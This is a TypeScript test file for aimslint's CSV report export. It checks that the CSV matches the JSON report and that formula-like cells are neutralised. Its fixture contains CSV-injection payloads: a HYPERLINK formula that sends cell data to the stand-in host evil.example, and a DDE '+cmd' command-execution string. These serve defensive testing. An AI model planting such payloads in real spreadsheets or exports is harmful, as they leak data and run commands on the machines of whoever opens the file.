/**
 * `aimslint report --format csv`: every example's CSV, read back by a
 * standard parser (csv-parse, RFC 4180), gives the rows of its JSON report;
 * cells a spreadsheet would run as formulas are neutralised.
 */
import { readdirSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { buildReport, csvRows, lint, renderReportCsv, type AimsReport } from '@aimslint/core';
import { EXAMPLES, NOW } from './example-repository.js';
import { writeRepository } from '../packages/core/src/testing/rule-tester.js';

const examples = readdirSync(EXAMPLES, { withFileTypes: true }).filter((entry) => entry.isDirectory()).map((entry) => entry.name);

describe.each(examples)('the CSV report of examples/%s', (example) => {
  it('parses into the rows of the JSON report', async () => {
    const report = buildReport(await lint({ cwd: join(EXAMPLES, example), now: NOW }));
    const csv = renderReportCsv(report);
    // What `--format json` writes, read back: the CSV must say the same.
    const fromJson = JSON.parse(JSON.stringify(report)) as AimsReport;
    const rows = parse(csv, { relax_column_count: false }) as string[][];
    expect(rows).toEqual(csvRows(fromJson));
    expect(rows[0]).toEqual(['framework', 'id', 'title', 'applicability', 'justification', 'implementation', 'state', 'evidence']);
    const items = fromJson.objectives.reduce((sum, objective) => sum + objective.controls.length, 0)
      + fromJson.frameworks.filter((coverage) => coverage.kind === 'framework').reduce((sum, coverage) => sum + coverage.items.length, 0);
    expect(rows).toHaveLength(1 + items);
    expect(csv.endsWith('\r\n')).toBe(true);
  });
});

describe('CSV cells from hostile documents', () => {
  it('quotes commas, quotes and line breaks, and neutralises formula-like cells', async () => {
    const root = writeRepository({
      'aims/soa.md': [
        '---',
        'id: SOA-001',
        'type: soa',
        'title: Statement of Applicability',
        'owner: ROLE-AIMS-LEAD',
        'status: draft',
        'entries:',
        '  - control: A.2.2',
        '    applicable: true',
        '    implementation: \'=HYPERLINK("http://evil.example/?"&A1,"click")\'',
        '    evidence: ["@SUM(1+1)", "-2+3", "+cmd|\' /C calc\'!A0"]',
        '  - control: A.2.3',
        '    applicable: false',
        '    justification: "Not used, \\"ever\\",\\nsee the board minutes"',
        '---',
        '',
      ].join('\n'),
    });
    try {
      const report = buildReport(await lint({ cwd: root, now: NOW }));
      const csv = renderReportCsv(report);
      const rows = parse(csv) as string[][];
      const row = (id: string) => rows.find((candidate) => candidate[1] === id) ?? [];
      expect(row('A.2.2')[5]).toBe('\'=HYPERLINK("http://evil.example/?"&A1,"click")');
      expect(row('A.2.2')[7]).toBe('\'@SUM(1+1) (broken); -2+3 (broken); +cmd|\' /C calc\'!A0 (broken)');
      expect(row('A.2.3')[4]).toBe('Not used, "ever",\nsee the board minutes');
      // No cell a spreadsheet reads as a formula, and every row as wide as the header.
      expect(rows.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
      expect(new Set(rows.map((cells) => cells.length))).toEqual(new Set([8]));
    } finally {
      rmSync(root, { recursive: true, force: true });
    }
  });
});
